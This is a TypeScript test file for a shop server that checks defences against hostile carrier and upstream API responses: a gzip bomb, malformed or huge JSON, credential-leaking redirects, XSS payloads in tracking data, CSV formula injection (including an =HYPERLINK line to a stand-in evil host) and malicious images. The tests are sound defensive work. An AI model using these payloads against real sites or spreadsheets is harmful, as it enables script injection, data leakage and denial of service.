/**
 * API10:2023, unsafe consumption of APIs. Elsewhere: what each carrier may answer in test/support/carrier-gateway.suite.ts and
 * tracking.test.ts; calls that are signed wrongly in connectors.test.ts. Here: answers made to hurt.
 */
import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { createPictures } from '../../server/modules/catalog/index.ts'
import { placeOrder } from '../../server/modules/orders/index.ts'
import { createOutgoing } from '../../server/platform/outgoing/client.ts'
import { callJson } from '../../server/platform/outgoing/json-call.ts'
import { apiRig } from '../support/api-rig.ts'
import { hugePng, svgWithScript } from '../support/bad-pictures.ts'
import { receiver } from '../support/receiver.ts'
import { anOrder, aShop, withStock } from '../support/shop.ts'

const rig = await apiRig({ RATE_LIMIT: '0' })
const outgoing = createOutgoing({ allowPrivate: true })
after(() => outgoing.close())
const ask = (url: string) => callJson(outgoing, 'The carrier', url, { headers: {}, body: '{}', timeoutMs: 5000 })

test('an answer that unpacks to fifty megabytes is not unpacked', async () => {
  const bomb = gzipSync(Buffer.alloc(50_000_000, ' '))
  const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' }
  const target = await receiver((response) => response.writeHead(200, headers).end(bomb))
  const result = await outgoing.send(target.url, { headers: {}, body: '{}', maxAnswerBytes: 1024 * 1024 })
  assert.ok(result.ok && result.content.length === bomb.length)
})

test('an answer that never ends, is deep, or is no JSON of the kind asked for is a failure in words', async () => {
  const answers: Record<string, string | Buffer> = {
    'two megabytes': `"${'x'.repeat(2_000_000)}"`,
    'half a text': '{"a":',
    html: '<html><script>alert(1)</script></html>',
    'lists in lists beyond the limit': '['.repeat(1_100_000),
    bytes: Buffer.from([0xff, 0xfe, 0x00, 0x01]),
    gzip: gzipSync('{"a":1}'),
  }
  for (const [what, body] of Object.entries(answers)) {
    const target = await receiver((response) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end(body),
    )
    const reply = await ask(target.url)
    assert.ok(!reply.ok && reply.failure.kind === 'unexpected_reply', what)
    assert.doesNotMatch(reply.failure.message, /script|xxxx/, 'what came is not repeated')
  }
  const deep = await receiver((response) => response.end('['.repeat(100_000) + ']'.repeat(100_000)))
  assert.ok(await ask(deep.url), 'nothing falls over')
})

test('whoever answers with a redirect gets no credentials sent elsewhere', async () => {
  const thief = await receiver()
  const shop = await rig.shop()
  for (const status of [301, 302, 303, 307, 308]) {
    const leading = await receiver((response) => response.writeHead(status, { location: thief.url }).end())
    await shop.call('PATCH', '/shop', { adminUrl: `http://127.0.0.1:${leading.port}/admin` })
    await shop.call('PUT', '/integrations/shopware', {
      settings: { clientId: 'id', clientSecret: 'secret-of-the-shop' },
    })
    const { body } = await shop.call<{ ok?: boolean }>('POST', '/integrations/shopware/test')
    assert.ok(leading.received.length > 0)
    assert.notEqual(body?.ok, true)
  }
  assert.equal(thief.received.length, 0)
})

test('words of a carrier, and addresses that it names, are text on the page of an order', async () => {
  const shop = await rig.shop()
  await withStock(shop.ctx, { CUP: 5 })
  const order = await placeOrder(shop.ctx, anOrder(['CUP']))
  await shop.call('POST', `/orders/${order.id}/collect`)
  const evil = '<img src=x onerror=alert(1)>"\'><script>alert(2)</script>'
  const parcel = { trackingNumber: 'XSS1', trackingUrl: 'javascript:alert(3)' }
  const shipped = await shop.call('POST', `/orders/${order.id}/ship`, { parcels: [parcel] })
  if (shipped.status >= 400)
    await shop.call('POST', `/orders/${order.id}/ship`, { parcels: [{ trackingNumber: 'XSS1' }] })
  const event = {
    trackingNumber: 'XSS1',
    name: 'OUT_FOR_DELIVERY',
    text: evil,
    occurredAt: rig.clock.now().toISOString(),
  }
  const told = await shop.call('POST', '/tracking-events', {
    events: [{ ...event, place: { name: evil, city: evil, countryCode: 'FI' } }],
  })
  assert.equal(told.status, 200, JSON.stringify(told.body))
  await rig.worker.drain()
  const { url } = (await shop.call<{ url: string }>('GET', `/orders/${order.id}/tracking-link`)).body
  const { body } = await rig.http.inject({ url: new URL(url).pathname, headers: { 'accept-language': 'en' } })
  assert.match(body, /XSS1/)
  assert.doesNotMatch(body, /<img src=x|<script>alert|href="javascript:/i)
})

test('a file of a list holds no formula that somebody gave as a name', async () => {
  const shop = await rig.shop()
  await withStock(shop.ctx, { CUP: 50 })
  const starts = ['=HYPERLINK("http://evil.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1']
  for (const [i, name] of starts.entries()) {
    const { customer } = anOrder(['CUP'])
    await placeOrder(shop.ctx, anOrder(['CUP'], { reference: `F-${i}`, customer: { ...customer, name } }))
  }
  const body = { kind: 'orders', format: 'csv', columns: ['reference', 'customerName'] }
  const made = await shop.call<{ id: string }>('POST', '/exports', body)
  await rig.worker.drain()
  const file = (await shop.call('GET', `/exports/${made.body.id}/file`)).raw.toString('utf8')
  assert.match(file, /F-5/)
  const cells = [...file.matchAll(/F-\d,"?([^\n]*)/g)].map(([, cell = '']) => cell)
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+@\t\r-]/, JSON.stringify(cell))
})

test('a picture that is none, too large, or leads to a program is not kept', async () => {
  const { ctx } = await aShop(rig.db, { clock: rig.clock })
  for (const content of [
    svgWithScript,
    hugePng(),
    Buffer.from('<html>'),
    Buffer.alloc(9_000_000),
    gzipSync(hugePng()),
  ]) {
    const shelf = await receiver((response) => response.writeHead(200, { 'content-type': 'image/png' }).end(content))
    assert.equal(await createPictures(outgoing).thumbnailOf(ctx, shelf.url), null)
    assert.equal(shelf.received.length, 1)
  }
})
